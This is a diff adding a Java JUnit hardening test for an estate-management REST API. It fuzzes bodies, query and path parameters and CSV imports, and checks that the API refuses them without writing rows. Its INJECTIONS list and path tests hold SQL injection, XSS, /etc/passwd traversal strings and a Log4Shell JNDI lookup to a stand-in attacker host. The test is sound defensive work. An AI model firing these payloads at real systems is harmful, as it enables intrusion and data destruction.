@@ -1,0 +1,507 @@
+package org.estatehub.hardening;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assertions.fail;
+
+import java.sql.Connection;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Function;
+import java.util.stream.Stream;
+
+import jakarta.inject.Inject;
+
+import org.estatehub.testing.Api;
+import org.estatehub.testing.AssetFixtures;
+import org.estatehub.testing.ProjectFixtures;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+
+import io.agroal.api.AgroalDataSource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.http.ContentType;
+import io.restassured.response.Response;
+
+/**
+ * Bad input for every operation that takes a body or parameters: malformed JSON, wrong types, missing
+ * required fields, over-long strings, unknown enum values, and SQL / script / path-traversal strings
+ * in every text field, query parameter and path parameter. The answer is always a 4xx
+ * application/problem+json (or, for strings that are merely unusual data, a 2xx that stores them
+ * verbatim), never a 5xx; after every refusal the row counts of every table and the target record are
+ * exactly as before.
+ */
+@QuarkusTest
+class BadInputTest {
+
+    static final List<String> INJECTIONS = List.of(
+            "x'); drop table asset; --",
+            "' or '1'='1",
+            "<script>alert('x')</script>",
+            "../../../../etc/passwd",
+            "..%2F..%2Fetc%2Fpasswd",
+            "${jndi:ldap://evil.example/a}");
+
+    static final String[] TABLES = {"partner", "asset", "asset_status_change", "project", "project_partner",
+            "project_asset", "project_milestone", "project_stage_change"};
+
+    static final ObjectMapper JSON = new ObjectMapper();
+
+    @Inject
+    AgroalDataSource dataSource;
+
+    /** A JSON operation: who calls it, where (a fresh target each time), a valid body and its enum fields. */
+    record Op(String name, String user, String method, Function<String, Target> target,
+            Function<String, Map<String, Object>> body, List<String> enumFields) {
+    }
+
+    /** Where to send the request, the If-Match to send (or null) and the path to read the record back. */
+    record Target(String path, String ifMatch, String readBack) {
+    }
+
+    record Case(Op op, String kind, List<Object> field, Object value) {
+        @Override
+        public String toString() {
+            return op.name() + ": " + kind + (field == null ? "" : " " + field) + (value == null ? ""
+                    : " = " + abbreviate(String.valueOf(value)));
+        }
+    }
+
+    static final List<Op> OPS = List.of(
+            new Op("createPartner", "pmo.admin", "POST", t -> new Target("/partners", null, null),
+                    t -> new HashMap<>(Map.of("id", "bi-" + t, "name", "Bad input " + t, "shortName", "BI", "type",
+                            "OTHER", "district", "MAIDSTONE")),
+                    List.of("type", "district")),
+            new Op("updatePartner", "pmo.admin", "PUT", t -> partner(t),
+                    t -> new HashMap<>(Map.of("name", "Bad input " + t, "shortName", "BI", "type", "OTHER",
+                            "district", "MAIDSTONE")),
+                    List.of("type", "district")),
+            new Op("createAsset", "maidstone.editor", "POST", t -> new Target("/assets", null, null),
+                    t -> AssetFixtures.asset("Bad input " + t, 51.27, 0.52),
+                    List.of("assetType", "district", "tenure", "status", "visibility")),
+            new Op("updateAsset", "maidstone.editor", "PUT", t -> asset(t, ""),
+                    t -> AssetFixtures.asset("Bad input " + t, 51.27, 0.52),
+                    List.of("assetType", "district", "tenure", "status", "visibility")),
+            new Op("disposeAsset", "maidstone.editor", "POST", t -> asset(t, "/disposal"),
+                    t -> new HashMap<>(Map.of("disposedOn", LocalDate.now().minusDays(1).toString(), "reason",
+                            "Sold " + t)),
+                    List.of()),
+            new Op("createProject", "maidstone.editor", "POST", t -> new Target("/projects", null, null),
+                    t -> ProjectFixtures.with(ProjectFixtures.project("Bad input " + t, "kcc"), "outcomes",
+                            Map.of("homes", Map.of("target", 10), "otherBenefits", List.of("Fewer offices"))),
+                    List.of("district", "type", "programmes[0]", "rag.status")),
+            new Op("updateProject", "maidstone.editor", "PUT", t -> project(t, ""),
+                    t -> ProjectFixtures.project("Bad input " + t, "kcc"),
+                    List.of("district", "type", "programmes[0]", "rag.status")),
+            new Op("changeProjectStage", "maidstone.editor", "POST", t -> project(t, "/stage-changes"),
+                    t -> new HashMap<>(Map.of("toStage", "PIPELINE", "note", "Moving on " + t)),
+                    List.of("toStage")),
+            new Op("addMilestone", "maidstone.editor", "POST", t -> project(t, "/milestones"),
+                    t -> new HashMap<>(Map.of("name", "Survey " + t, "dueOn", "2031-01-31", "ownerPartnerId", "kcc")),
+                    List.of()),
+            new Op("updateMilestone", "maidstone.editor", "PUT", t -> milestone(t),
+                    t -> new HashMap<>(Map.of("name", "Survey " + t, "dueOn", "2031-01-31", "ownerPartnerId", "kcc")),
+                    List.of()));
+
+    static Stream<Case> cases() {
+        List<Case> cases = new ArrayList<>();
+        for (Op op : OPS) {
+            Map<String, Object> body = op.body().apply("sample");
+            cases.add(new Case(op, "malformed JSON", null, "{\"name\": "));
+            cases.add(new Case(op, "JSON array instead of an object", null, "[]"));
+            cases.add(new Case(op, "every field missing", null, "{}"));
+            for (List<Object> path : leaves(body, new ArrayList<>())) {
+                Object value = get(body, path);
+                cases.add(new Case(op, "wrong type", path, wrongType(value)));
+                if (value instanceof String) {
+                    cases.add(new Case(op, "over-long string", path, "x".repeat(100_000)));
+                    for (String injection : INJECTIONS) {
+                        cases.add(new Case(op, "injection", path, injection));
+                    }
+                }
+            }
+            for (Object top : body.keySet()) {
+                cases.add(new Case(op, "required field missing or optional field absent", List.of(top), null));
+            }
+            for (String field : op.enumFields()) {
+                cases.add(new Case(op, "unknown enum value", parse(field), "PIRATES"));
+            }
+            cases.add(new Case(op, "unknown property", List.of("nmae"), "typo"));
+        }
+        return cases.stream();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void jsonBodies(Case c) throws Exception {
+        String t = AssetFixtures.token();
+        Target target = c.op().target().apply(t);
+        Map<String, Object> valid = c.op().body().apply(t);
+        String body;
+        switch (c.kind()) {
+            case "malformed JSON", "JSON array instead of an object", "every field missing" -> body = (String) c.value();
+            case "required field missing or optional field absent" -> {
+                Map<String, Object> copy = new LinkedHashMap<>(valid);
+                copy.remove(c.field().get(0));
+                body = JSON.writeValueAsString(copy);
+            }
+            case "unknown property" -> {
+                Map<String, Object> copy = new LinkedHashMap<>(valid);
+                copy.put("nmae", "typo");
+                body = JSON.writeValueAsString(copy);
+            }
+            default -> body = JSON.writeValueAsString(set(valid, c.field(), c.value()));
+        }
+
+        Map<String, Long> before = counts();
+        String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
+        var spec = Api.badRequestAs(c.op().user()).contentType(ContentType.JSON).accept(ContentType.JSON).body(body);
+        if (target.ifMatch() != null) {
+            spec = spec.header("If-Match", target.ifMatch());
+        }
+        Response r = spec.request(c.op().method(), target.path());
+        int status = r.statusCode();
+        assertTrue(status < 500, c + ": " + status + " " + r.asString());
+
+        boolean mayBeAccepted = c.kind().equals("injection") || c.kind().startsWith("required field missing or optional");
+        if (status < 300 && mayBeAccepted) {
+            if (c.kind().equals("injection")) {
+                // Accepted strings are data: stored and answered exactly as sent.
+                assertTrue(r.asString().contains((String) c.value()), c + ": stored differently: " + r.asString());
+            }
+            return;
+        }
+        assertTrue(status >= 400, c + ": accepted (" + status + ") " + r.asString());
+        assertTrue(r.contentType().startsWith("application/problem+json"), c + ": content type " + r.contentType());
+        assertEquals(status, (int) r.path("status"), c + ": problem status");
+        if (status == 400) {
+            assertTrue(r.asString().contains("\"detail\""), c + ": problem without detail");
+        }
+        assertEquals(before, counts(), c + ": rows were written although the request was refused");
+        if (recordBefore != null) {
+            assertEquals(recordBefore, Api.as("pmo.admin").get(target.readBack()).asString(),
+                    c + ": the record changed although the request was refused");
+        }
+    }
+
+    /** Injection strings and bad values in every query parameter of every read. */
+    static Stream<String> queries() {
+        List<String> queries = new ArrayList<>();
+        Map<String, List<String>> params = Map.of(
+                "/partners", List.of("type", "limit", "offset"),
+                "/assets", List.of("partner", "district", "status", "type", "q", "bbox", "nearLat", "nearLon", "radiusM",
+                        "includeDisposed", "sort", "limit", "offset"),
+                "/assets/co-location", List.of("distanceM", "district", "minPartners"),
+                "/assets/export", List.of("partner", "district", "status", "includeDisposed"),
+                "/projects", List.of("stage", "type", "district", "lead", "partner", "programme", "q", "limit", "offset"),
+                "/projects/outcomes", List.of("stage", "type", "district", "partner", "programme"));
+        params.forEach((path, names) -> {
+            for (String name : names) {
+                for (String value : INJECTIONS) {
+                    queries.add(path + "?" + name + "=" + java.net.URLEncoder.encode(value,
+                            java.nio.charset.StandardCharsets.UTF_8));
+                }
+                queries.add(path + "?" + name + "=" + "9".repeat(40));
+                // Long, but inside the 4 kB request line Vert.x accepts (longer lines get its bare 414).
+                queries.add(path + "?" + name + "=" + "x".repeat(3000));
+            }
+        });
+        return queries.stream().sorted();
+    }
+
+    @ParameterizedTest(name = "GET {0}")
+    @MethodSource("queries")
+    void queryParameters(String pathAndQuery) {
+        Map<String, Long> before = counts();
+        Response r = Api.badRequestAs("maidstone.editor").accept("application/json, text/csv")
+                .urlEncodingEnabled(false).get(pathAndQuery);
+        assertTrue(r.statusCode() < 500, pathAndQuery + ": " + r.statusCode() + " " + r.asString());
+        if (r.statusCode() >= 400) {
+            assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
+            assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
+        } else if (r.contentType().startsWith("application/json") && r.asString().contains("\"total\"")
+                && (pathAndQuery.contains("?q=") || pathAndQuery.contains("?partner=") || pathAndQuery.contains("?lead="))) {
+            // An injected filter is a value, never a condition that matches everything: partner and lead match
+            // no partner; free text finds only records that contain the very string (other tests of this
+            // class store such strings as names and streets).
+            String value = java.net.URLDecoder.decode(pathAndQuery.substring(pathAndQuery.indexOf('=') + 1),
+                    java.nio.charset.StandardCharsets.UTF_8);
+            List<Map<String, Object>> items = r.jsonPath().getList("items");
+            if (pathAndQuery.contains("?q=")) {
+                for (Map<String, Object> item : items) {
+                    assertTrue(item.toString().toLowerCase().contains(value.toLowerCase()),
+                            pathAndQuery + ": found a record without the text: " + item);
+                }
+                assertEquals(items.size(), (int) r.path("total"), pathAndQuery + ": more matches than one page");
+            } else {
+                assertEquals(0, (int) r.path("total"), pathAndQuery + ": " + r.asString());
+            }
+        }
+        assertEquals(before, counts(), pathAndQuery + ": a read wrote rows");
+    }
+
+    static Stream<String> pathParameters() {
+        List<String> paths = new ArrayList<>();
+        for (String value : List.of("' or 1=1 --", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+                "00000000-0000-0000-0000-00000000000g", "x".repeat(3000))) {
+            String v = value.contains("%") ? value : java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
+            paths.add("GET /partners/" + v);
+            paths.add("GET /assets/" + v);
+            paths.add("GET /assets/" + v + "/status-history");
+            paths.add("GET /projects/" + v);
+            paths.add("GET /projects/" + v + "/stage-changes");
+            paths.add("PUT /assets/" + v);
+            paths.add("POST /assets/" + v + "/disposal");
+            paths.add("PUT /projects/" + v);
+            paths.add("POST /projects/" + v + "/milestones");
+            paths.add("PUT /projects/00000000-0000-0000-0000-000000000000/milestones/" + v);
+        }
+        return paths.stream();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("pathParameters")
+    void pathParameterValues(String request) {
+        String method = request.substring(0, request.indexOf(' '));
+        String path = request.substring(request.indexOf(' ') + 1);
+        Map<String, Long> before = counts();
+        Response r = Api.badRequestAs("pmo.admin").contentType(ContentType.JSON).header("If-Match", "\"0\"")
+                .urlEncodingEnabled(false).body("{}").request(method, path);
+        assertTrue(r.statusCode() == 400 || r.statusCode() == 404, request + ": " + r.statusCode() + " " + r.asString());
+        assertTrue(r.contentType().startsWith("application/problem+json"), request + ": " + r.contentType());
+        assertEquals(before, counts(), request + ": rows written");
+    }
+
+    /** The CSV import: bad files are refused whole. */
+    @ParameterizedTest(name = "import {0}")
+    @MethodSource("csvFiles")
+    void csvImport(String name, String csv) {
+        Map<String, Long> before = counts();
+        Response r = Api.badRequestAs("maidstone.editor").contentType("text/csv; charset=UTF-8").body(csv)
+                .post("/assets/import");
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, name + ": " + r.statusCode() + " " + r.asString());
+        assertTrue(r.contentType().startsWith("application/problem+json"), name);
+        assertEquals(before, counts(), name + ": rows written");
+    }
+
+    static Stream<org.junit.jupiter.params.provider.Arguments> csvFiles() {
+        String header = "UPRN,Unique Asset ID,Name,Postcode,X co-ordinate,Y co-ordinate,Tenure,Asset type\n";
+        List<org.junit.jupiter.params.provider.Arguments> files = new ArrayList<>();
+        files.add(org.junit.jupiter.params.provider.Arguments.of("binary garbage", "\u0000\u0001\u0002PK\u0003\u0004"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("unterminated quote", header + "1,\"A,B,ME15 6JQ,576086,155747\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("wrong types", header + "abc,R1,Name,ME15 6JQ,east,north,Freehold,Office\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("unknown enum", header + "1,R1,Name,ME15 6JQ,576086,155747,Pirated,Casino\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("over-long name", header + "1,R1," + "x".repeat(100_000) + ",ME15 6JQ,576086,155747,Freehold,Office\n"));
+        for (String injection : INJECTIONS) {
+            // A good row followed by a row whose postcode is an injection string: the whole file is refused.
+            files.add(org.junit.jupiter.params.provider.Arguments.of("injection " + abbreviate(injection),
+                    header + AssetFixtures.uprn() + ",R-" + AssetFixtures.token() + ",Good,ME15 6JQ,576086,155747,Freehold,Office\n"
+                            + AssetFixtures.uprn() + ",R2,Bad,\"" + injection.replace("\"", "\"\"")
+                            + "\",576086,155747,Freehold,Office\n"));
+        }
+        return files.stream();
+    }
+
+    /**
+     * Bodies over the 64 MB limit (quarkus.http.limits.max-body-size): every operation that takes a body
+     * answers 413 problem+json as soon as it sees the declared length, and writes nothing. The test sends
+     * the headers and the first 256 kB over a plain socket, as a client streaming a 65 MB body would.
+     */
+    @ParameterizedTest(name = "65 MB body: {0}")
+    @MethodSource("bodyOperations")
+    void oversizedBodies(String name, String method, String contentType) throws Exception {
+        Target target = switch (name) {
+            case "createPartner" -> new Target("/partners", null, null);
+            case "updatePartner" -> partner(AssetFixtures.token());
+            case "createAsset" -> new Target("/assets", null, null);
+            case "importAssets" -> new Target("/assets/import", null, null);
+            case "updateAsset" -> asset(AssetFixtures.token(), "");
+            case "disposeAsset" -> asset(AssetFixtures.token(), "/disposal");
+            case "createProject" -> new Target("/projects", null, null);
+            case "updateProject" -> project(AssetFixtures.token(), "");
+            case "changeProjectStage" -> project(AssetFixtures.token(), "/stage-changes");
+            case "addMilestone" -> project(AssetFixtures.token(), "/milestones");
+            case "updateMilestone" -> milestone(AssetFixtures.token());
+            default -> throw new AssertionError(name);
+        };
+        String user = name.endsWith("Partner") ? "pmo.admin" : "maidstone.editor";
+        Map<String, Long> before = counts();
+        String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
+        long declared = 65L * 1024 * 1024;
+        String head = method + " " + target.path() + " HTTP/1.1\r\nHost: localhost\r\n"
+                + "Authorization: Bearer " + org.estatehub.testing.Keycloak.userToken(user) + "\r\n"
+                + "Content-Type: " + contentType + "\r\nContent-Length: " + declared + "\r\n"
+                + (target.ifMatch() == null ? "" : "If-Match: " + target.ifMatch() + "\r\n") + "\r\n";
+        String answer;
+        try (java.net.Socket socket = new java.net.Socket("localhost", io.restassured.RestAssured.port)) {
+            socket.setSoTimeout(30_000);
+            var out = socket.getOutputStream();
+            out.write(head.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
+            byte[] chunk = ("{\"name\": \"" + "x".repeat(64 * 1024)).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
+            try {
+                for (int i = 0; i < 4; i++) {
+                    out.write(chunk);
+                }
+                out.flush();
+            } catch (java.io.IOException closedEarly) {
+                // The server may answer and close before the client has written this much: that is fine.
+            }
+            answer = new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
+        }
+        assertTrue(answer.startsWith("HTTP/1.1 413"), name + ": " + abbreviate(answer));
+        assertTrue(answer.toLowerCase().contains("content-type: application/problem+json"), name + ": " + answer);
+        assertTrue(answer.contains("\"status\":413"), name + ": " + answer);
+        assertEquals(before, counts(), name + ": rows written");
+        if (recordBefore != null) {
+            assertEquals(recordBefore, Api.as("pmo.admin").get(target.readBack()).asString(), name + ": record changed");
+        }
+    }
+
+    static Stream<org.junit.jupiter.params.provider.Arguments> bodyOperations() {
+        List<org.junit.jupiter.params.provider.Arguments> ops = new ArrayList<>();
+        for (Op op : OPS) {
+            ops.add(org.junit.jupiter.params.provider.Arguments.of(op.name(), op.method(), "application/json"));
+        }
+        ops.add(org.junit.jupiter.params.provider.Arguments.of("importAssets", "POST", "text/csv; charset=UTF-8"));
+        return ops.stream();
+    }
+
+    // --- targets: fresh records so that an accepted request never disturbs the next case -----------------
+
+    static Target partner(String t) {
+        String id = "bi-" + t;
+        Api.as("pmo.admin").body(Map.of("id", id, "name", "Bad input target", "type", "OTHER")).post("/partners")
+                .then().statusCode(201);
+        return new Target("/partners/" + id, "\"0\"", "/partners/" + id);
+    }
+
+    static Target asset(String t, String suffix) {
+        String id = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input target " + t, 51.27, 0.52));
+        return new Target("/assets/" + id + suffix, "\"0\"", "/assets/" + id);
+    }
+
+    static Target project(String t, String suffix) {
+        String id = ProjectFixtures.createId("maidstone.editor", ProjectFixtures.project("Bad input target " + t, "kcc"));
+        return new Target("/projects/" + id + suffix, suffix.isEmpty() || suffix.equals("/stage-changes") ? "\"0\"" : null,
+                "/projects/" + id);
+    }
+
+    static Target milestone(String t) {
+        String id = ProjectFixtures.createId("maidstone.editor", ProjectFixtures.project("Bad input target " + t, "kcc"));
+        String milestone = Api.as("maidstone.editor").body(Map.of("name", "Survey", "dueOn", "2031-01-31"))
+                .post("/projects/" + id + "/milestones").then().statusCode(201).extract().path("id");
+        return new Target("/projects/" + id + "/milestones/" + milestone, "\"0\"", "/projects/" + id);
+    }
+
+    // --- helpers ------------------------------------------------------------------------------------------
+
+    Map<String, Long> counts() {
+        Map<String, Long> counts = new LinkedHashMap<>();
+        try (Connection c = dataSource.getConnection(); Statement s = c.createStatement()) {
+            for (String table : TABLES) {
+                try (ResultSet rs = s.executeQuery("select count(*) from " + table)) {
+                    rs.next();
+                    counts.put(table, rs.getLong(1));
+                }
+            }
+        } catch (SQLException e) {
+            fail("counting rows failed (was a table dropped?): " + e.getMessage());
+        }
+        return counts;
+    }
+
+    /** Paths to every scalar (and list element) in a body. */
+    @SuppressWarnings("unchecked")
+    static List<List<Object>> leaves(Object node, List<Object> prefix) {
+        List<List<Object>> paths = new ArrayList<>();
+        if (node instanceof Map<?, ?> map) {
+            for (Map.Entry<?, ?> e : ((Map<Object, Object>) map).entrySet()) {
+                List<Object> p = new ArrayList<>(prefix);
+                p.add(e.getKey());
+                paths.add(p);
+                if (e.getValue() instanceof Map<?, ?> || e.getValue() instanceof List<?>) {
+                    paths.addAll(leaves(e.getValue(), p));
+                }
+            }
+        } else if (node instanceof List<?> list) {
+            for (int i = 0; i < list.size(); i++) {
+                List<Object> p = new ArrayList<>(prefix);
+                p.add(i);
+                paths.add(p);
+                paths.addAll(leaves(list.get(i), p));
+            }
+        }
+        return paths;
+    }
+
+    static Object get(Object node, List<Object> path) {
+        for (Object key : path) {
+            node = key instanceof Integer i ? ((List<?>) node).get(i) : ((Map<?, ?>) node).get(key);
+        }
+        return node;
+    }
+
+    /** A deep copy of the body with the value at path replaced. */
+    @SuppressWarnings("unchecked")
+    static Object set(Object node, List<Object> path, Object value) {
+        if (path.isEmpty()) {
+            return value;
+        }
+        Object key = path.get(0);
+        List<Object> rest = path.subList(1, path.size());
+        if (node instanceof List<?> list) {
+            List<Object> copy = new ArrayList<>(list);
+            copy.set((Integer) key, set(copy.get((Integer) key), rest, value));
+            return copy;
+        }
+        Map<Object, Object> copy = new LinkedHashMap<>((Map<Object, Object>) node);
+        copy.put(key, set(copy.get(key), rest, value));
+        return copy;
+    }
+
+    static Object wrongType(Object value) {
+        if (value instanceof String) {
+            return 12345;
+        }
+        if (value instanceof Number) {
+            return "not a number";
+        }
+        if (value instanceof Boolean) {
+            return "maybe";
+        }
+        if (value instanceof Map<?, ?>) {
+            return "not an object";
+        }
+        if (value instanceof List<?>) {
+            return "not an array";
+        }
+        return List.of(1, 2);
+    }
+
+    static List<Object> parse(String field) {
+        List<Object> path = new ArrayList<>();
+        for (String part : field.split("\\.")) {
+            int bracket = part.indexOf('[');
+            if (bracket < 0) {
+                path.add(part);
+            } else {
+                path.add(part.substring(0, bracket));
+                path.add(Integer.parseInt(part.substring(bracket + 1, part.length() - 1)));
+            }
+        }
+        return path;
+    }
+
+    static String abbreviate(String s) {
+        return s.length() > 40 ? s.substring(0, 20) + "...(" + s.length() + " chars)" : s;
+    }
+}
